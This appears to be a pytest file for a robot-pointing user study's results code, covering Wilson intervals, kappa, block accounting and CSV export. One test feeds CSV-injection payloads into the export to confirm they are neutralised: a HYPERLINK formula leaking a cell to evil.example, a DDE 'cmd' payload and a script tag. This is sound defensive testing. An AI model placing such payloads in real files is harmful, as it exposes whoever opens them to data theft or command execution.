"""Per-agent results: Wilson 95% intervals checked against values worked out by hand."""

from __future__ import annotations

import csv
import io

import pytest

from pointlab.bridge.study.results import TRIAL_LOG_COLUMNS, agent_results, trial_log_csv, wilson_interval


def test_wilson_by_hand():
    # 5/10: centre 0.5; half = 1.96/(1 + 3.8415/10) * sqrt(0.025 + 3.8415/400) = 0.26341
    lo, hi = wilson_interval(5, 10)
    assert lo == pytest.approx(0.23659, abs=1e-4) and hi == pytest.approx(0.76341, abs=1e-4)
    # 0/3: centre = half = (3.8415/6)/(1 + 3.8415/3) = 0.28075 -> [0, 0.56149]
    lo, hi = wilson_interval(0, 3)
    assert lo == 0.0 and hi == pytest.approx(0.56149, abs=1e-4)
    lo, hi = wilson_interval(3, 3)  # mirror of 0/3
    assert lo == pytest.approx(1 - 0.56149, abs=1e-4) and hi == 1.0
    # 8/9, a size a 3-participant x 3-trial study has: p = .8889, z^2/n = .42683, denom 1.42683,
    # centre (.8889 + .21342)/1.42683 = .77255, half 1.37364*sqrt(.010974 + .011856) = .20759
    lo, hi = wilson_interval(8, 9)
    assert lo == pytest.approx(0.56496, abs=2e-4) and hi == pytest.approx(0.98014, abs=2e-4)
    assert wilson_interval(0, 0) is None
    with pytest.raises(ValueError):
        wilson_interval(4, 3)


def test_agent_results_counts_only_judged_trials():
    # as stored: a judgement sets the outcome; a headless trial has an outcome (the automatic check)
    # and no judgement; an unjudged trial has neither; an aborted one is left out
    trials = [
        {"agent": "a", "judgement": "succeeded", "outcome": "succeeded", "sim_success": True},
        {"agent": "a", "judgement": "failed", "outcome": "failed", "sim_success": False},
        {"agent": "a", "judgement": None, "outcome": None, "sim_success": None},
        {"agent": "b", "judgement": "succeeded", "outcome": "succeeded", "sim_success": None},
        {"agent": "b", "judgement": None, "outcome": "failed", "sim_success": False},
        {"agent": "b", "judgement": None, "outcome": "aborted", "sim_success": None},
        {"agent": "zz", "judgement": "failed", "outcome": "failed", "sim_success": None},
    ]
    surveys = [{"agent": "a", "score": 80.0}, {"agent": "a", "score": 55.0}, {"agent": "b", "score": 100.0}]
    res = {r["agent"]: r for r in agent_results(["a", "b", "c"], trials, surveys)}
    assert list(res) == ["a", "b", "c", "zz"]
    a = res["a"]
    assert (a["n_trials"], a["n_judged"], a["n_succeeded"], a["success_rate"]) == (3, 2, 1, 0.5)
    assert a["sim_success_rate"] == 0.5 and a["mean_sus"] == 67.5 and a["n_surveys"] == 2
    assert a["ci95"][0] == pytest.approx(0.0945, abs=1e-3) and a["ci95"][1] == pytest.approx(0.9055, abs=1e-3)
    assert res["c"]["success_rate"] is None and res["c"]["ci95"] is None and res["c"]["mean_sus"] is None
    b = res["b"]
    assert (b["n_trials"], b["n_judged"], b["n_succeeded"], b["n_aborted"], b["success_rate"]) == (3, 2, 1, 1, 0.5)
    assert b["sim_success_rate"] == 0.0 and b["mean_sus"] == 100.0


def test_csv_has_header_and_json_cells():
    rows = [
        {
            "id": 1,
            "agent": "a",
            "instruction": 'pick "the" cube, please',
            "points_px": [[1.0, 2.0]],
            "target": {"valid": False, "reason": "no_depth: x"},
            "judgement": None,
        }
    ]
    parsed = list(csv.reader(io.StringIO(trial_log_csv(rows))))
    assert tuple(parsed[0]) == TRIAL_LOG_COLUMNS
    rec = dict(zip(parsed[0], parsed[1]))
    assert rec["instruction"] == 'pick "the" cube, please' and rec["points_px"] == "[[1.0,2.0]]"
    assert rec["judgement"] == "" and rec["id"] == "1"


def test_csv_cells_are_text_never_formulas():
    # CSV injection (OWASP "CSV Injection"): a participant types an instruction, the operator opens the
    # CSV in a spreadsheet, and a cell starting with = + - @ (or tab / CR) would run as a formula.
    # Such cells get a leading apostrophe; commas, quotes and newlines round-trip through the csv module.
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    plain = 'pick up the "red", cube\nthen stop; <script>alert(1)</script>'
    rows = [
        {"id": i + 1, "instruction": s, "raw_answer": s, "agent": "a", "frame_index": -1, "points_px": [[-0.5, 2.0]]}
        for i, s in enumerate(hostile + [plain])
    ]
    back = list(csv.DictReader(io.StringIO(trial_log_csv(rows))))
    assert [r["instruction"] for r in back] == ["'" + s for s in hostile] + [plain]
    assert [r["raw_answer"] for r in back] == ["'" + s for s in hostile] + [plain]
    # numbers and JSON cells are left alone (a negative number is data, not a formula)
    assert back[0]["frame_index"] == "-1" and back[0]["points_px"] == "[[-0.5,2.0]]" and back[0]["id"] == "1"


def test_trial_log_names_participants_and_counts_blocks_from_one():
    from pointlab.bridge.study.results import trial_log

    trials = [
        {"id": 1, "participant_id": 7, "block": 0, "agent": "a"},
        {"id": 2, "participant_id": None, "block": None},
    ]
    log = trial_log(trials, [{"id": 7, "label": "P1"}])
    assert [(r["participant"], r["block"]) for r in log] == [("P1", 1), (None, None)]
    header, row = list(csv.reader(io.StringIO(trial_log_csv(trials[:1], [{"id": 7, "label": "P1"}]))))[:2]
    assert row[header.index("participant")] == "P1" and row[header.index("block")] == "1"


def test_cohens_kappa_by_hand():
    from pointlab.bridge.study.results import cohens_kappa

    # 10 trials, participant yes 6, check yes 5, agree on 4 yes + 3 no = 7: p_o = 0.7,
    # p_e = 0.6 * 0.5 + 0.4 * 0.5 = 0.5, kappa = (0.7 - 0.5) / 0.5 = 0.4
    pairs = [(True, True)] * 4 + [(True, False)] * 2 + [(False, True)] + [(False, False)] * 3
    assert cohens_kappa(pairs) == pytest.approx(0.4)
    assert cohens_kappa([(True, False), (False, True)]) == pytest.approx(-1.0)  # p_o 0, p_e 0.5
    # p_o = p_e = 1: 0/0, undefined (one trial, or one answer throughout)
    assert cohens_kappa([(True, True)] * 3) is None and cohens_kappa([(False, False)]) is None
    assert cohens_kappa([]) is None


def test_aborted_trials_are_left_out_of_every_rate_and_counted():
    def t(j, outcome, auto=None, stage=None):
        return {
            "agent": "a",
            "judgement": j,
            "outcome": outcome,
            "sim_success": None,
            "failure_stage": stage,
            "auto_check": None if auto is None else {"success": auto, "method": "depth"},
        }

    trials = [
        t("succeeded", "succeeded", True),
        t("failed", "failed", False, "grasp"),
        t(None, "aborted", None, "aborted"),
        t(None, "aborted", None, "aborted"),
        t("succeeded", "succeeded", False),
    ]
    (a,) = agent_results(["a"], trials, [])
    assert (a["n_trials"], a["n_aborted"], a["n_judged"], a["n_succeeded"]) == (5, 2, 3, 2)
    assert a["success_rate"] == pytest.approx(2 / 3)
    # Wilson 2/3 does not change because two trials were aborted
    assert a["ci95"] == pytest.approx(list(wilson_interval(2, 3)))
    assert a["auto_success_rate"] == pytest.approx(1 / 3) and a["n_compared"] == 3
    assert a["agreement"] == pytest.approx(2 / 3) and a["failure_stages"] == {"grasp": 1}  # aborts are n_aborted
    # kappa: pairs (T,T), (F,F), (T,F): p_o 2/3, p_e = 2/3 * 1/3 + 1/3 * 2/3 = 4/9 -> (2/9) / (5/9) = 0.4
    assert a["kappa"] == pytest.approx(0.4)


def test_a_block_whose_repeats_ran_out_is_short_and_every_page_counts_it_the_same():
    """trials_per_agent 2, max_repeats 1: P1's block 0 has 1 kept trial and 3 aborts (1 repeat used,
    then 2 aborts past the cap use up 2 slots... the block used 1 + 2 = 3 >= 2 slots with 1 kept: short);
    block 1 has 2 kept trials (not short). The participant's step and the results agree."""
    from pointlab.bridge.study.design import next_step
    from pointlab.bridge.study.results import BLOCK_COLUMNS, blocks_csv, study_blocks

    study = {"trials_per_agent": 2, "max_repeats": 1, "agents": ["a", "b"]}
    participants = [{"id": 7, "label": "P1", "agent_order": ["a", "b"]}]
    rows = [
        {"id": i, "participant_id": 7, "block": 0, "agent": "a", "outcome": o, "judgement": j}
        for i, (o, j) in enumerate(
            [("aborted", None), ("succeeded", "succeeded"), ("aborted", None), ("aborted", None)], 1
        )
    ]
    rows += [
        {"id": 10 + i, "participant_id": 7, "block": 1, "agent": "b", "outcome": "failed", "judgement": "failed"}
        for i in range(2)
    ]
    blocks = study_blocks(study, rows, participants)
    assert [(b["block"], b["kept"], b["aborted"], b["slots_used"], b["short"]) for b in blocks] == [
        (1, 1, 3, 3, True),
        (2, 2, 0, 2, False),
    ]
    step = next_step(
        n_blocks=2, trials_per_agent=2, trials=rows, surveyed_blocks=[0, 1], started_blocks=[0, 1], max_repeats=1
    )
    assert step.kind == "done"  # the short block's slots are used up: the participant moved on
    agents = {r["agent"]: r for r in agent_results(["a", "b"], rows, [], blocks)}
    assert (agents["a"]["n_short_blocks"], agents["a"]["n_judged"], agents["a"]["n_aborted"]) == (1, 1, 3)
    assert agents["b"]["n_short_blocks"] == 0
    parsed = list(csv.DictReader(io.StringIO(blocks_csv(blocks))))
    assert tuple(parsed[0]) == BLOCK_COLUMNS and parsed[0]["short"] == "True" and parsed[1]["short"] == "False"


def test_late_share_counts_answers_after_their_drawn_reveal_time():
    rows = [
        {"agent": "human", "outcome": "failed", "timings_s": {"reveal": 12.0, "ready": 14.5}},
        {"agent": "human", "outcome": "failed", "timings_s": {"reveal": 20.0, "ready": 9.0}},
        {"agent": "human", "outcome": "aborted", "timings_s": {"reveal": 15.0}},  # no answer: not counted
        {"agent": "model", "outcome": "failed", "timings_s": {"reveal": 11.0, "ready": 1.2}},
    ]
    by = {r["agent"]: r for r in agent_results(["human", "model"], rows, [])}
    assert by["human"]["late_share"] == 0.5 and by["model"]["late_share"] == 0.0


def test_a_station_lost_abort_never_uses_up_a_repeat():
    """trials_per_agent 2, max_repeats 1. Block 0: three station_lost aborts then one kept trial: no
    repeat used (1 slot used, the kept one), the next trial is a fresh slot 2. Block 1: station_lost,
    agent_error, agent_error: the two agent errors use the one repeat and then a slot (0 + (2 - 1) = 1
    slot used), and the last abort is past the cap, so slot 2 is not a repeat."""
    from pointlab.bridge.study.design import block_progress, next_step

    lost = {"outcome": "aborted", "abort": {"code": "station_lost"}}
    error = {"outcome": "aborted", "abort": {"code": "agent_error"}}
    kept = {"outcome": "succeeded", "judgement": "succeeded"}
    b0 = [{"id": i, "block": 0, **t} for i, t in enumerate([lost, lost, lost, kept], 1)]
    b1 = [{"id": 10 + i, "block": 1, **t} for i, t in enumerate([lost, error, error])]
    p0 = block_progress(b0, trials_per_agent=2, max_repeats=1)
    assert (p0.kept, p0.aborted, p0.slots_used, p0.short, p0.repeat) == (1, 3, 1, False, False)
    step = next_step(n_blocks=2, trials_per_agent=2, trials=b0, surveyed_blocks=[], started_blocks=[0], max_repeats=1)
    assert (step.kind, step.block, step.trial_number, step.repeat) == ("trial", 0, 2, False)
    p1 = block_progress(b1, trials_per_agent=2, max_repeats=1)
    assert (p1.slots_used, p1.repeat) == (1, False)
    # a station_lost abort as the last trial is always offered again, even past the cap
    p2 = block_progress(b1 + [{"id": 20, "block": 1, **lost}], trials_per_agent=2, max_repeats=1)
    assert (p2.slots_used, p2.repeat) == (1, True)
